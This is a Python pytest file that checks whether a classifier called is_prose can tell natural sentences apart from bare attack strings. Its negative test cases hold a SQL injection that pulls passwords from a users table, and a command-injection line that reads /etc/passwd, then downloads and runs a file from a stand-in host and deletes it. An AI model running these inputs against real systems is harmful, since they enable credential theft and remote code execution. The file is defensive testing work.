from __future__ import annotations

import pytest

from clausewise.observe.prose import is_prose


@pytest.mark.parametrize(
    "text",
    [
        "You can read it with cat /etc/hosts, but be careful when you change it.",
        "Regardez dans /etc/passwd si vous voulez savoir quels usagers il y a sur la machine.",
        "The query SELECT * FROM users WHERE id = 1 returns what you asked for, as it should.",
    ],
)
def test_sentence_is_prose_when_people_write_it(text):
    assert is_prose(text)


@pytest.mark.parametrize(
    "text",
    [
        "1' union select name, password from users where id in (select id from admins) and 1=1 --",
        "x; cat /etc/passwd | grep root && wget http://a.example/x -O /tmp/x; sh /tmp/x; rm /tmp/x",
        "laine mérinos",
        "",
    ],
)
def test_attack_is_no_prose_when_it_has_only_its_own_words(text):
    assert not is_prose(text)
